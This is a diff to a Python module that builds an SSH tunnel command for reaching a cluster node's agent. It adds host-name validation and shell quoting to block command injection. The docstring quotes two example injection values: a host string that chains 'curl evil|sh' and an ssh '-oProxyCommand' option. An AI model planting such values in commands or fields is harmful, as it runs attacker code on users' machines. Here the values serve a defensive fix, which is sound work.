@@ -6,6 +6,8 @@ cluster's agents), so any one agent of the job can say where all the others are.
 
 from __future__ import annotations
 
+import re
+import shlex
 from collections.abc import Iterable
 from typing import Any
 from urllib.parse import urlsplit
@@ -16,6 +18,7 @@ from pilothouse.wire.urls import check_url
 MAX_NODES = 4096
 MAX_RANKS = 1 << 16
 TUNNEL_PORT = 17767  # the first local port offered for a tunnel to another node (the CLI's and the app's)
+_PLAIN_HOST = re.compile(r"[A-Za-z0-9][A-Za-z0-9_.-]{0,252}")  # what gethostname gives; never an ssh option
 
 
 def check_nodes(nodes: Any) -> list[dict]:
@@ -54,8 +57,15 @@ def check_node(node: Any) -> dict:
 
 
 def tunnel_command(local_port: int, node: dict) -> str:
-    """The SSH tunnel that brings ``node``'s loopback agent to this machine's ``local_port``."""
-    return f"ssh -N -L {local_port}:127.0.0.1:{urlsplit(node['agent']).port} {node['host']}"
+    """The SSH tunnel that brings ``node``'s loopback agent to this machine's ``local_port``: a
+    command people paste into a shell, so the host (a name from a trainer's hello) must be a plain
+    host name, or ``node;curl evil|sh`` runs a program and ``-oProxyCommand=...`` makes ssh run one;
+    ValueError for any other."""
+    host = node["host"]
+    if not isinstance(host, str) or not _PLAIN_HOST.fullmatch(host):
+        raise ValueError(f"no SSH tunnel to host {str(host)[:80]!r}: not a plain host name (letters, digits, "
+                         "'.', '-', '_'); reach its agent by hand")
+    return shlex.join(["ssh", "-N", "-L", f"{local_port}:127.0.0.1:{urlsplit(node['agent']).port}", host])
 
 
 def group_ranks(members: Iterable[tuple[str, str, int]]) -> list[dict]:
